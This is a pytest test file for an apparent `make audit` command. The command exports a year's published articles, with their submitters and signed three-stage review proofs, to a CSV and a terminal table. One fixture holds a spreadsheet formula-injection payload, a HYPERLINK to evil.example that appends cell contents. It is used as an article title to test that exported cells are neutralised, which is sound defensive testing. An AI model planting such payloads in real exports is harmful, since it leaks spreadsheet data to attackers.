"""`make audit YEAR=…`: the year's published items with their submitter and each stage's proof, as a table and a CSV."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from rich.cells import cell_len

from tests.signing import Key, Repo, make_key, reviewers_yml
from tests.sites import PROJECT, article

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"点此")'


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Key]:
    folder = tmp_path_factory.mktemp("keys")
    return {name: make_key(folder, name) for name in ("chen", "zhao", "sun")}


def _audit(repo: Repo, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "content_model.audit",
            "--root",
            str(repo.root),
            "--site-now",
            "2026-12-31 12:00",
            *args,
        ],
        cwd=PROJECT,
        env=repo.env(),
        capture_output=True,
        text=True,
    )


@pytest.fixture(scope="module")
def audited(tmp_path_factory: pytest.TempPathFactory, keys: dict[str, Key]) -> tuple[Repo, subprocess.CompletedProcess]:
    repo = Repo(tmp_path_factory.mktemp("audit") / "site")
    registry = reviewers_yml(
        [("陈静", keys["chen"], "chenjing", ""), ("赵磊", keys["zhao"], "", ""), ("孙敏", keys["sun"], "", "")]
    )
    repo.init(
        {
            "content/data/reviewers.yml": registry,
            "content/articles/c.md": article("上一年的稿件", "2019-12-31", slug="c"),
            "content/articles/d.md": article("草稿", "2020-09-01", slug="d", status="draft"),
        }
    )
    repo.write(
        {
            "content/articles/a.md": article(HOSTILE.replace('"', "'"), "2020-07-20", slug="a", review="{}"),
            "content/articles/b.md": article("未经签名审核的稿件", "2020-08-01", slug="b"),
        }
    )
    repo.commit("投稿 Submit")
    for stage, who in (("first", "chen"), ("second", "zhao"), ("final", "sun")):
        repo.sign_as(keys[who])
        assert repo.approve(stage, "content/articles/a.md").returncode == 0
    # 陈静 leaves: the gate no longer accepts her key, the audit of past approvals still verifies it
    repo.write({"content/data/reviewers.yml": registry.splitlines(keepends=True)[1] + registry.splitlines()[2]})
    repo.commit("陈静调离 Remove a reviewer")
    return repo, _audit(repo, "--year", "2020")


def test_one_row_per_published_item_of_the_year_in_a_csv_excel_opens(audited) -> None:
    repo, run = audited
    assert run.returncode == 0, run.stderr
    data = (repo.root / "audit-2020.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header, attested, unattested = rows
    assert header[:5] == ["标题 title", "网址 URL", "报送单位 department", "投稿人 submitter", "投稿时间 submitted"]
    record = dict(zip(header, attested, strict=True))
    assert record["网址 URL"].endswith("/articles/2020/07/a/")
    assert record["报送单位 department"] == "调研宣传部"
    assert record["投稿人 submitter"] == "作者"
    assert (record["初审人 reviewer"], record["初审方式 how"]) == ("陈静", "签名提交")
    assert record["终审时间 when"].startswith("2026-12-01 ")
    assert len(record["复审凭据 proof"]) == 10
    assert record["核验 attested"] == "是 yes"
    other = dict(zip(header, unattested, strict=True))
    assert other["标题 title"] == "未经签名审核的稿件" and other["核验 attested"] == "否 no"
    assert "review.first" in other["未核验的原因 why not"]


def test_cells_that_a_spreadsheet_would_run_are_neutralised(audited) -> None:
    repo, _ = audited
    rows = list(csv.reader(io.StringIO((repo.root / "audit-2020.csv").read_text(encoding="utf-8-sig"))))
    assert rows[1][0] == "'" + HOSTILE.replace('"', "'")
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_table_fits_80_columns_and_lists_the_unattested_apart(audited) -> None:
    _, run = audited
    lines = run.stdout.splitlines()
    assert max(cell_len(line) for line in lines) <= 80
    assert run.stdout.index("2020年已发布稿件的三审记录") < run.stdout.index("未完整核验的已发布稿件")
    assert "未经签名审核的稿件" in run.stdout.split("未完整核验的已发布稿件")[1]
    assert "上一年的稿件" not in run.stdout and "草稿" not in run.stdout


def test_a_pull_request_approval_is_shown_as_such(audited, tmp_path: Path) -> None:
    repo, _ = audited
    head = repo.git("rev-parse", "HEAD~1")  # the pull request's head: after the submission and the approvals
    base = repo.git("rev-list", "--max-parents=0", "HEAD")
    approvals = tmp_path / "approvals.json"
    record = {"login": "chenjing", "pr": 12, "commit": head, "anchor": head, "since": base, "submitted_at": ""}
    approvals.write_text(json.dumps([record]), encoding="utf-8")
    run = _audit(repo, "--year", "2020", "--approvals", str(approvals), "--out", str(tmp_path / "with-pr.csv"))
    assert run.returncode == 0, run.stderr
    rows = list(csv.reader(io.StringIO((tmp_path / "with-pr.csv").read_text(encoding="utf-8-sig"))))
    unsigned = dict(zip(rows[0], rows[2], strict=True))
    assert unsigned["初审方式 how"] == "拉取请求批准" and unsigned["初审凭据 proof"] == "#12"
    assert unsigned["复审方式 how"] == ""


def test_the_csv_is_never_written_where_it_could_be_published(audited) -> None:
    repo, _ = audited
    for place in ("output/audit.csv", "content/audit.csv", "content/articles/x.csv"):
        run = _audit(repo, "--year", "2020", "--out", place)
        assert run.returncode == 2 and "could be published" in run.stderr, place
        assert not (repo.root / place).exists()
    assert "/audit-*.csv" in (PROJECT / ".gitignore").read_text(encoding="utf-8").splitlines()
